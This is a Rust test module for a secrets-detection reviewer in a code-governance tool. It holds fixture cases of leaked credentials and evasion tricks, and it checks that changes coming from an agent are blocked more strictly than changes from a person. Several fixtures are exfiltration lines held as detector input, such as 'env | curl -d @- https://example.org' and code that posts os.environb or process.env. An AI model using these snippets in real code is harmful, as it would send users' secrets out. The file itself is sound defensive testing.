                secret: format!("gh{}_{}", "p", noise(&alnum(), 36, 28)),
                ..case("a computed name with a token as its default", "tools/x.py", None, &format!("t = os.{}.get(name, \"gh{}_{}\")\n", concat!("envi", "ron"), "p", noise(&alnum(), 36, 28)), &[B, B], "")
            },
            case("rust name in a variable", "src/a.rs", None, &format!("let t = std::env::{}(&name);\n", "var"), &[B], "computed name"),
            case("the environment as bytes", "tools/x.py", None, &format!("import requests\nrequests.post(URL, data=repr(os.{}b))\n", concat!("envi", "ron")), &[B], "whole environment"),
            case("a token read as bytes", "tools/x.py", None, &format!("t = os.{}b[b\"GITHUB_TOKEN\"]\n", concat!("envi", "ron")), &[M], "GITHUB_TOKEN"),
            case("python name reversed", "tools/x.py", None, &format!("t = os.{}[\"NEKOT_BUHTIG\"[::-1]]\n", concat!("envi", "ron")), &[B], "computed name"),
            case("environ by reflection", "tools/x.py", None, &format!("e = getattr(os, \"{}\")\n", concat!("envi", "ron")), &[B], "whole environment"),
            case("env printed by a subprocess", "tools/x.py", None, &format!("out = subprocess.run([\"{}\"], capture_output=True)\n", concat!("print", "env")), &[B], "whole environment"),
            case("env piped in a shell script", "scripts/ci.sh", None, &format!("{} | curl -d @- https://example.org\n", concat!("en", "v")), &[B], "whole environment"),
            case("env setting a variable in a shell script", "scripts/ci.sh", None, &format!("{} LANG=C sort x\n", concat!("en", "v")), &[], ""),
            case("a name bound to a literal", "src/a.rs", None, &format!("const NAME: &str = \"HOME\";\nlet h = std::env::{}(NAME);\n", "var"), &[], ""),
            Case {
                secret: ssh_body.clone(),
                ..case("OpenSSH key body without armour", "keys/k", None, &ssh_lines, &[B], "OpenSSH")
            },
            case("a public key fixture", "tests/fixtures/key.pub", None, &format!("ssh-ed25519 {ed_pub} user@example.org\n"), &[], ""),
            case("short literal", "src/a.rs", None, "let s = \"sk-short\"; let p = \"ghp_x\";\n", &[], ""),
            case("kebab-case words", "src/a.rs", None, "let s = \"task-some-long-kebab-case-name-here\";\n", &[], ""),
            case("long snake_case identifier", "src/a.rs", None, "let s = \"governance_does_no_io_no_clock_no_git_at_all\";\n", &[], ""),
            case("long camelCase identifier", "src/a.rs", None, "let s = \"camelCaseIdentifierWithManyWordsInIt\";\n", &[], ""),
            case("a credential's name with a placeholder", "src/a.rs", None, "let api_key = \"replace-me-with-your-own-key\";\n", &[], ""),
            case("a credential's name with a variable's name", "src/a.rs", None, "const TOKEN_VAR: &str = \"ATELIER_GITHUB_TOKEN_FOR_CI\";\n", &[], ""),
            case("a credential's name with a hash", "src/a.rs", None, &format!("let key_digest = \"{}\";\n", noise(&hex(), 64, 23)), &[], ""),
            case("prose", "README.md", None, "The token is read from the environment at run time.\n", &[], ""),
            Case {
                base: Some(quoted(&format!("gh{}_{}", "p", noise(&alnum(), 36, 18)))),
                ..case("a secret removed, not added", "src/a.rs", None, "let k = std::env::var(\"X\");\n", &[], "")
            },
            Case {
                head: None,
                ..case("a removed file", "src/a.rs", Some(&key_head), "", &[], "")
            },
            // Tokens, not text: white space between tokens, lines, imports, adjacent literals.
            case("vars with a space", "src/a.rs", None, &format!("let e: Vec<_> = std::env::{} ().collect();\nureq::post(URL).send_json(e);\n", "vars"), &[B], "whole environment"),
            case("vars_os imported as another name", "src/a.rs", None, &format!("use std::env::{}_os as settings;\nfn f() {{ let e: Vec<_> = settings().collect(); ureq::post(URL).send_json(e); }}\n", "vars"), &[B, B], "whole environment"),
            case("vars imported", "src/a.rs", None, &format!("use std::{{env::{}}};\nfn f() {{ ureq::post(URL).send_json(vars().count()); }}\n", "vars"), &[B, B], "whole environment"),
            case("var imported as another name", "src/a.rs", None, &format!("use std::env::{} as lookup;\nfn f() {{ let t = lookup([\"GITHUB\", \"TOKEN\"].join(\"_\")); ureq::post(URL).send(t); }}\n", "var"), &[B], "computed name"),
            case("the environment on the next line (JavaScript)", "web/x.js", None, &format!("fetch(URL, {{ body: JSON.stringify({}\n  .env) }});\n", concat!("proc", "ess")), &[B], "whole environment"),
            case("adjacent literals (Python)", "tools/x.py", None, &format!("import requests\nt = os.{}.get(\"GITHUB_\" \"TOKEN\")\nrequests.post(URL, data=t)\n", concat!("envi", "ron")), &[B], "computed name"),
            Case {
                secret: noise(&alnum(), 24, 30),
                ..case("an unquoted value in .env", ".env.production", None, &format!("STRIPE_SECRET={}\n", noise(&alnum(), 24, 30)), &[B], "credential's name")
            },
            Case {
                secret: noise(&alnum(), 24, 31),
                ..case("an unquoted value in YAML", "config/app.yml", None, &format!("  api_key: {}\n", noise(&alnum(), 24, 31)), &[B], "credential's name")
            },
            case("a key with dots", "config/mail.ini", None, &format!("key = S{}.{}.{}\n", "G", noise(&alnum(), 22, 32), noise(&alnum(), 43, 33)), &[B], "SendGrid"),
            Case {
                secret: noise(&alnum(), 14, 34),
                ..case("a database URL with a password", ".env", None, &format!("DATABASE_URL=postgres://app:{}@db.internal/app\n", noise(&alnum(), 14, 34)), &[B], "password")
            },
            case("a JSON Web Token", "tests/fixtures.py", None, &format!("AUTH_HEADER = 'Bearer ey{}{}.{}.{}'\n", "J", noise(&alnum(), 20, 38), noise(&alnum(), 30, 35), noise(&alnum(), 40, 36)), &[B], "JSON Web Token"),
            case("HTTP Basic credentials", "tools/x.py", None, &format!("headers = {{'Authorization': 'Basic {}'}}\n", b64(format!("deploy:{}", noise(&alnum(), 12, 37)).as_bytes())), &[B], "Basic"),
            Case {
                secret: noise(&alnum(), 14, 40),
                ..case("a URL password percent-encoded", ".env", None, &format!("DATABASE_URL=postgres://app:%4B{}@db.internal/app\n", noise(&alnum(), 14, 40)), &[B], "password")
            },
            Case {
                secret: noise(&alnum(), 20, 41),
                ..case("a password in a URL's query", "config/app.properties", None, &format!("spring.datasource.url=jdbc:postgresql://db/app?user=app&password={}\n", noise(&alnum(), 20, 41)), &[B], "password")
            },
            case("HTTP Basic credentials, scheme in lower case", "tools/y.py", None, &format!("h = {{'Authorization': 'basic {}'}}\n", b64(format!("deploy:{}", noise(&alnum(), 12, 42)).as_bytes())), &[B], "Basic"),
            Case {
                secret: noise(&alnum(), 24, 43),
                ..case("a YAML value after a tag", "config/app.yml", None, &format!("  api_key: !!str {}\n", noise(&alnum(), 24, 43)), &[B], "credential's name")
            },
            case("a JSON Web Token in the documentation", "docs/auth.md", None, &format!("Send `Authorization: Bearer ey{}{}.{}.{}`.\n", "J", noise(&alnum(), 20, 44), noise(&alnum(), 30, 45), noise(&alnum(), 40, 46)), &[M], "JSON Web Token"),
            case("a test database on the machine", "tests/conftest.py", None, "DB = 'postgres://test:test1234@localhost:5432/app'\n", &[], ""),
            Case {
                secret: noise(&alnum(), 24, 50),
                ..case("a Slack webhook", "tools/notify.py", None, &format!("URL = 'https://hooks.slack.com/services/T{}/B{}/{}'\n", noise(&upper(), 8, 51), noise(&upper(), 8, 52), noise(&alnum(), 24, 50)), &[B], "webhook")
            },
            Case {
                secret: noise(&alnum(), 40, 53),
                ..case("an Azure connection string", "config/storage.ini", None, &format!("conn = DefaultEndpointsProtocol=https;AccountName=acme;AccountKey={}==;EndpointSuffix=core.windows.net\n", noise(&alnum(), 40, 53)), &[B], "credential's name")
            },
            Case {
                secret: noise(&alnum(), 16, 54),
                ..case("curl with a password", "scripts/deploy.sh", None, &format!("curl -u deploy:{} https://example.org/upload\n", noise(&alnum(), 16, 54)), &[B], "-u")
            },
            case("a PuTTY key", "keys/deploy.ppk", None, &format!("{}3: ssh-ed25519\nEncryption: none\n", concat!("PuTTY-User-", "Key-File-")), &[B], "PuTTY"),
            case("curl with a variable", "scripts/deploy.sh", None, "curl -u \"deploy:$DEPLOY_PASSWORD\" https://example.org/upload\n", &[], ""),
            case("a URL whose password is a variable", ".env", None, "DATABASE_URL=postgres://app:${DB_PASSWORD}@db/app\n", &[], ""),
            case("a placeholder password in YAML", "config/app.yml", None, "  password: changeme\n", &[], ""),
            case("a token's lifetime", "config/app.ini", None, "token_ttl = 3600\n", &[], ""),
            case("an ssh URL", "README.md", None, "git clone ssh://git@example.org/x.git\n", &[], ""),
            case("a field named vars", "src/a.rs", None, "use std::env::var as lookup;\nfn f(s: &S) -> usize { s.vars.len() + s.lookup(1) }\n", &[], ""),
        ]
    }

    #[test]
    fn the_table() {
        let mut failures = Vec::new();
        let all = cases();
        for c in &all {
            let files = [fc(c.path, c.base.as_deref(), c.head.as_deref())];
            let found = run(&files);
            let severities: Vec<Severity> = found.iter().map(|f| f.severity).collect();
            let ok = severities == c.expect
                && found.iter().all(|f| {
                    f.message.contains(c.word)
                        && f.category == "secrets"
                        && f.line.is_some()
                        && (c.secret.is_empty()
                            || !f.message.contains(&c.secret[..c.secret.len().min(8)]))
                });
            if !ok {
                failures.push(format!(
                    "{}: expected {:?} with `{}`, got {:#?}",
                    c.name,
                    c.expect,
                    c.word,
                    found
                        .iter()
                        .map(|f| format!("{:?} {:?} {}", f.severity, f.line, f.message))
                        .collect::<Vec<_>>()
                ));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        assert!(all.len() >= 30, "{} cases", all.len());
    }

    #[test]
    fn a_person_reading_a_credential_is_asked_not_blocked() {
        let head = format!(
            "let t = std::env::{}(\"GITHUB_TOKEN\");\nureq::get(URL).header(\"Authorization\", t);\n",
            "var"
        );
        let files = [fc("src/client.rs", None, Some(&head))];
        let view = ChangeView {
            files: &files,
            agent_origin: false,
            declared: None,
            judged: &[],
        };
        let found = check("secrets", &view);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].severity, Severity::Major);
        // The same change from an agent blocks.
        let agent = ChangeView {
            agent_origin: true,
            ..view
        };
        assert_eq!(check("secrets", &agent)[0].severity, Severity::Blocking);
    }

    #[test]
    fn messages_show_four_characters_at_most() {
        let token = format!("gh{}_{}", "p", noise(&alnum(), 36, 19));
        let files = [fc(
            "src/a.rs",
            Some(""),
            Some(&format!("x\n{}", quoted(&token))),
        )];
        let found = run(&files);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].line, Some(2));
        assert!(found[0].message.contains("(ghp_…)"), "{}", found[0].message);
        assert!(!found[0].message.contains(&token[..5]));
        assert_eq!(preview("ab"), "ab…");
    }

    /// The reviewers pass their own source (fixtures, needles and all), as a new file.
    #[test]
    fn the_reviewers_own_source_is_clean() {
        let files = [
            fc(
                "src/governance/review/secrets.rs",
                None,
                Some(include_str!("secrets.rs")),
            ),
            fc(
                "src/governance/review/key_material.rs",
                None,
                Some(include_str!("key_material.rs")),
            ),
            fc(
                "src/governance/review/deps/mod.rs",
                None,
                Some(include_str!("deps/mod.rs")),
            ),
            fc(
                "src/governance/review/deps/python.rs",
                None,
                Some(include_str!("deps/python.rs")),
            ),
            fc(
                "src/governance/review/deps/unread.rs",
                None,
                Some(include_str!("deps/unread.rs")),
            ),
            fc(
                "src/governance/review/code_lines.rs",
                None,
                Some(include_str!("code_lines.rs")),
            ),
            fc(
                "src/governance/review/weakened_tests/mod.rs",
                None,
                Some(include_str!("weakened_tests/mod.rs")),
            ),
            fc(
                "src/governance/review/weakened_tests/assertions.rs",
                None,
                Some(include_str!("weakened_tests/assertions.rs")),
            ),
            fc(
                "src/governance/review/weakened_tests/not_weakening.rs",
                None,
                Some(include_str!("weakened_tests/not_weakening.rs")),
            ),
            fc(
                "src/governance/review/weakened_tests/test_fns.rs",
                None,
                Some(include_str!("weakened_tests/test_fns.rs")),
            ),
        ];
        let view = ChangeView {
            files: &files,
            agent_origin: true,
            declared: None,
            judged: &[],
        };
        assert_eq!(check("secrets", &view), []);
        assert_eq!(
            super::super::weakened_tests::check("tests-tamper", &view),
            []
        );
    }

    #[test]
    fn matchers() {
        assert_eq!(
            code_of("f(\"env::vars()\", 'a', x)", true),
            "f(\"           \", 'a', x)"
        );
        assert_eq!(code_of("f('ab', \"c\")", false), "f('  ', \" \")");
        assert!(entropy(&noise(&alnum(), 64, 20)) > 5.0);
        assert!(entropy("aaaaaaaa") < 0.01);
        assert!(entropy(&noise(&hex(), 64, 21)) <= 4.0);
        assert_eq!(literals("f(\"a\\\"b\", 'c', `d`)"), ["a\\\"b", "c", "d"]);
        assert!(credential_name("api_key") && credential_name("GH_PAT"));
        assert!(!credential_name("MONKEY_BUSINESS") && !credential_name("KEYBOARD"));
        assert!(whole_env("dict(os.environ)") && !whole_env("os.environ['X']"));
        assert!(whole_env("send(process.env)") && !whole_env("process.env.X"));
        assert!(random_case(&noise(&alnum()[..52], 40, 25)));
        assert!(
            !random_case("camelCaseIdentifierWithManyWords")
                && !random_case("HTTPServerXMLConfigLoader")
        );
        assert!(
            names_credential("{ apiKey: 'x' }", "x")
                && names_credential("let gh_pat = \"x\";", "x")
        );
        assert!(!names_credential("let greeting = \"x\";", "x"));
        // The credential word inside the literal itself does not count.
        assert!(!names_credential("f(\"api_key\")", "api_key"));
        // A line of many random-looking literals is read once, not once per literal (it used to
        // cost the line's length per literal: minutes for this line).
        let lit = |i: usize| format!("\"Zq8xR2mK7vT4nB9wL3pY{i:04}\"");
        let line = (0..4000).map(lit).collect::<Vec<_>>().join(", ");
        let files = vec![FileChange {
            path: "src/a.rs".into(),
            base: None,
            head: Some(format!("let token_list = [{line}];\n")),
        }];
        let found = check(
            "secrets",
            &ChangeView {
                files: &files,
                agent_origin: false,
                declared: None,
                judged: &[],
            },
        );
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].severity, Severity::Blocking, "named `token_list`");
        // A token inside a longer word is not one.
        let inner = format!("xyzgh{}_{}", "p", noise(&alnum(), 36, 22));
        assert!(tokens(&inner).is_empty());
    }
}
